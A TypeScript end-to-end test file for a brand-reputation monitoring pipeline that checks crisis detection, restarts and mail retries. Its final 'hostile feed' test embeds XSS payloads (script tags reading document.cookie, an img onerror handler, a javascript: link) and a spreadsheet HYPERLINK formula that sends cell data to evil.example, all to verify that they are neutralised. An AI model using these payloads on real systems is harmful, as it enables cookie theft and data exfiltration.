// The whole pipeline in one process: sample web, real sources, real Fetcher, queue, analyzers, rules and mail over real
// SMTP, on a real file; only the time is told. The process is closed and opened again in the middle of the crisis.

import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvLine } from '../../cli/csv.ts';
import { HOUR, MINUTE, SECOND } from '../../core/clock.ts';
import { fullText } from '../../core/mention.ts';
import { demoBrand } from '../../demo/brand.ts';
import { createScenario, type Post, TIMELINE } from '../../demo/scenario.ts';
import { type SampleWeb, startSampleWeb } from '../../demo/web.ts';
import { actOnIncident } from '../../pipeline/incidents.ts';
import { ingest } from '../../pipeline/ingest.ts';
import { deadPort, mailReceiver } from '../alerts/receivers.ts';
import { getJson } from '../demo/support.ts';
import { memoryLog } from '../queue/support.ts';
import {
  allIncidents,
  allMentions,
  CountingClock,
  countsOf,
  freshData,
  live,
  mailDeliveries,
  type System,
  settle,
  startSystem,
} from './support.ts';

const SEED = 1;

interface InboxMail {
  subject: string;
  text: string;
  html: string;
  headers: { name: string; value: string }[];
}

describe('a day with a crisis', () => {
  const clock = new CountingClock();
  const start = clock.now();
  const data = freshData();
  let web: SampleWeb;
  let system: System;
  let config: object;

  beforeAll(async () => {
    web = await startSampleWeb({ clock, log: memoryLog().log, seed: SEED });
    const { host, port } = web.sites.mail;
    const brand = demoBrand(web.sites);
    config = {
      fetch: { allowHosts: web.hosts, minInterval: 100 },
      mail: { host, port, from: 'itibar <itibar@demo.example>', to: ['iletisim@pazarlamacim.example'] },
      brands: [{ ...brand, watches: brand.watches?.map((watch) => ({ ...watch, every: '10s' })) }],
    };
    system = await startSystem(clock, data.dir, config);
  });
  afterAll(async () => {
    await system?.close();
    await web?.stop();
    data.remove();
  });

  const mails = async () => (await getJson<{ mails: InboxMail[] }>(`${web.sites.mail.inboxUrl}/api/mails`)).mails;
  const messageIds = (list: InboxMail[]) =>
    list.map(({ headers }) => headers.find(({ name }) => name.toLowerCase() === 'message-id')?.value ?? '');
  const waves = async () =>
    (await allIncidents(system.store)).filter(({ ruleId, severity }) => ruleId === 'volume' && severity <= 3);
  const storyTime = () => clock.now() - start;

  it('is ordinary at first: mentions arrive and there is no wave', async () => {
    await live(clock, system, TIMELINE.crisisAt);
    expect(web.story.phase).toBe('rising');
    expect(await waves()).toEqual([]);
    expect(await system.store.mentions.count()).toBeGreaterThan(90);
  });

  it('turns into an incident of the payment failures within two minutes of its beginning', async () => {
    await live(clock, system, 2 * MINUTE - storyTime(), { isReached: async () => (await waves()).length > 0 });
    expect(storyTime()).toBeLessThanOrEqual(2 * MINUTE);
    await live(clock, system, 2 * MINUTE - storyTime() + 10 * SECOND);
    const [wave] = await waves();
    expect(wave?.reason).toMatch(/Son 60 dakikada \d+ olumsuz, bu saat için olağan/);
    const samples = await system.store.mentions.getMany(wave?.mentionIds ?? []);
    const about = samples.filter(({ mention }) => /öde|para|çek|kart|sipariş|boykot/i.test(fullText(mention)));
    expect(about.length).toBeGreaterThan(samples.length / 2);
    expect((await mails()).map(({ subject }) => subject).join('\n')).toContain(wave?.title);
  });

  it('goes on after the process was closed in the middle, and doubles nothing', async () => {
    const before = { mentions: await system.store.mentions.count(), mails: messageIds(await mails()) };
    await system.close();
    await clock.advance(5 * SECOND);
    system = await startSystem(clock, data.dir, config);
    await live(clock, system, TIMELINE.calmingAt + 10 * SECOND - storyTime());
    const stored = await allMentions(system.store);
    expect(stored.length).toBeGreaterThan(before.mentions);
    const ids = messageIds(await mails());
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids).toEqual(expect.arrayContaining(before.mails));
    expect((await waves()).length).toBe(1);
  });

  it('calms down, and every post that was there to be read was read exactly once', async () => {
    await live(clock, system, TIMELINE.afterAt - storyTime(), { stepMs: 20 * SECOND });
    await live(clock, system, 30 * SECOND);
    const stored = await allMentions(system.store);
    const { perWatch, inStories, unjudged } = await countsOf(system.store);
    expect(unjudged).toBe(0);
    expect(inStories).toBe(stored.length);
    expect(Math.max(...perWatch)).toBeLessThanOrEqual(stored.length);
    const scenario = createScenario(start, SEED);
    const isLive = ({ at }: Post) => at > start && at < clock.now() - 30 * SECOND;
    const tagged = scenario
      .posts('social', clock.now())
      .filter((post) => isLive(post) && /#pazarlamac[iı]m\b/i.test(post.text));
    expect(tagged.length).toBeGreaterThan(20);
    const timesStored = (post: Post) => stored.filter(({ key }) => key.endsWith(`/statuses/${idOf(post)}`)).length;
    expect(tagged.map(timesStored)).toEqual(tagged.map(() => 1));
  });

  it('sends one mail for every word of an incident, and the end once', async () => {
    const { deps } = system.app;
    const open = (await allIncidents(system.store)).filter(({ severity }) => severity <= 3);
    for (const { id } of open) await actOnIncident(deps, id, { action: 'resolve' }, 'cli');
    await live(clock, system, 30 * SECOND);
    const deliveries = await mailDeliveries(system.store);
    expect(deliveries.filter(({ state }) => state !== 'sent')).toEqual([]);
    expect((await mails()).length).toBe(deliveries.length);
    for (const { id } of open) {
      const reasons = deliveries.filter(({ subjectId }) => subjectId === id).map(({ reason }) => reason);
      expect(reasons.filter((reason) => reason === 'opened')).toHaveLength(1);
      expect(reasons.filter((reason) => reason === 'resolved')).toHaveLength(1);
    }
    expect(system.lines.filter(({ level }) => level === 'error')).toEqual([]);
  });
});

function idOf(post: Post): string {
  return String((BigInt(post.at) << 16n) | BigInt(post.id & 0xffff));
}

/** An installation with one brand and one watch that reads `url`. */
function configOf(port: number, url: string): object {
  return {
    fetch: { allowHosts: [new URL(url).host], minInterval: 100 },
    mail: { host: '127.0.0.1', port, from: 'itibar <itibar@markam.example>', to: ['ekip@markam.example'] },
    brands: [
      {
        name: 'Zarpak',
        watches: [{ name: 'Zarpak', query: 'zarpak', every: '1h', sources: [{ id: 'feed', params: { url } }] }],
      },
    ],
  };
}

async function feedSite(items: string): Promise<{ url: string; stop: () => void }> {
  const server = createServer((request, response) => {
    if (request.url !== '/feed.xml') return response.writeHead(404).end();
    response.writeHead(200, { 'content-type': 'application/rss+xml; charset=utf-8' });
    response.end(
      `<rss version="2.0"><channel><title>Akış</title><link>https://akis.example/</link>${items}</channel></rss>`,
    );
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const stop = () => {
    server.closeAllConnections();
    server.close();
  };
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/feed.xml`, stop };
}

const FRAUD =
  'Zarpak adına arayıp kartımdan 4.500 TL çektiler, dolandırıldım! Sahte site üzerinden kart bilgilerimi çaldılar, savcılığa suç duyurusunda bulundum.';

describe('a night without a mail server', () => {
  it('keeps the alert, delivers it once when the server is back, and sends the digest of the morning once', async () => {
    const clock = new CountingClock(Date.UTC(2026, 10, 24, 18, 0)); // Tuesday, 21:00 in Istanbul
    const data = freshData();
    const site = await feedSite('<item><guid>a</guid><title>Zarpak yeni mağaza açtı</title></item>');
    const port = await deadPort();
    let system = await startSystem(clock, data.dir, configOf(port, site.url));
    await live(clock, system, 4 * SECOND);
    const [brand] = await system.store.brands.list();
    const raws = [{ nativeId: 'f1', text: FRAUD, publishedAt: clock.now() }];
    await ingest(system.app.deps, {
      sourceId: 'import',
      channel: 'support',
      raws,
      brandId: brand?.id ?? '',
      isBackfill: false,
    });
    await live(clock, system, 10 * MINUTE, { stepMs: MINUTE });
    expect((await allIncidents(system.store)).length).toBe(1);
    const [kept] = await mailDeliveries(system.store);
    expect(kept).toMatchObject({ state: 'pending', reason: 'opened' });
    expect(kept?.attemptCount).toBeGreaterThan(2);
    await system.close();

    await clock.advance(10 * HOUR + 15 * MINUTE); // the machine sleeps until 07:25
    const { mails } = await mailReceiver({ port });
    system = await startSystem(clock, data.dir, configOf(port, site.url));
    await live(clock, system, 2 * MINUTE, { stepMs: 10 * SECOND });
    expect(mails.map(({ mail }) => mail.subject)).toEqual([expect.stringMatching(/^\[(KRİZ|YÜKSEK)\] Zarpak · /)]);
    await live(clock, system, 5 * MINUTE, { stepMs: 10 * SECOND });
    const digests = () => mails.filter(({ mail }) => mail.subject?.includes('Günlük özet: 25 Kasım 2026'));
    expect([mails.length, digests().length]).toEqual([2, 1]);
    expect(digests()[0]?.mail.text).toContain('1 açık vaka var');
    await system.close();

    system = await startSystem(clock, data.dir, configOf(port, site.url));
    await live(clock, system, 3 * MINUTE, { stepMs: 10 * SECOND });
    expect(mails.length).toBe(2);
    await system.close();
    site.stop();
    data.remove();
  });
});

describe('a hostile feed', () => {
  it('arrives as text: no markup, no script, no formula that a table would run', async () => {
    const clock = new CountingClock(Date.UTC(2026, 10, 24, 6, 0));
    const data = freshData();
    const cell = '=HYPERLINK("http://evil.example/?"&amp;A1,"Zarpak iade")';
    const site = await feedSite(
      [
        `<item><guid>1</guid><pubDate>Tue, 24 Nov 2026 05:50:00 GMT</pubDate><title>&lt;script&gt;alert(1)&lt;/script&gt; Zarpak rezalet</title><link>javascript:alert(1)</link><description><![CDATA[<p>${FRAUD} <b>Rezalet!</b> <script>alert(document.cookie)</script><img src=x onerror=alert(2)></p>]]></description></item>`,
        `<item><guid>2</guid><title>${cell}</title><link>https://akis.example/2</link></item>`,
        `<item><guid>3</guid><title>Zarpak \u202e gnirts</title><link>https://akis.example/3</link></item>`,
      ].join(''),
    );
    const { mails, port } = await mailReceiver();
    const system = await startSystem(clock, data.dir, configOf(port, site.url));
    await live(clock, system, 6 * SECOND);
    await settle(clock, system);
    const { items } = await system.store.mentions.list({}, { limit: 10 });
    expect(items.length).toBe(3);
    const script = items.find(({ mention }) => mention.title?.includes('rezalet'))?.mention;
    expect([script?.title, script?.text]).toEqual(['<script>alert(1)</script> Zarpak rezalet', `${FRAUD} Rezalet!`]);
    expect(items.map(({ mention }) => mention.url).filter((url) => url !== null && !url.startsWith('https:'))).toEqual(
      [],
    );
    const formula = items.find(({ mention }) => fullText(mention).includes('HYPERLINK')) ?? expect.fail('lost');
    expect(fullText(formula.mention)).toMatch(/^=HYPERLINK/);
    expect(csvLine(formula)).toContain(`"'=HYPERLINK(""http`);
    expect(mails.length).toBe(1);
    expect(String(mails[0]?.mail.html)).toContain('&lt;script&gt;alert(1)&lt;/script&gt; Zarpak rezalet');
    expect(String(mails[0]?.mail.html)).not.toMatch(/<script|<img|href="(?!https?:)/i);
    await system.close();
    site.stop();
    data.remove();
  });
});
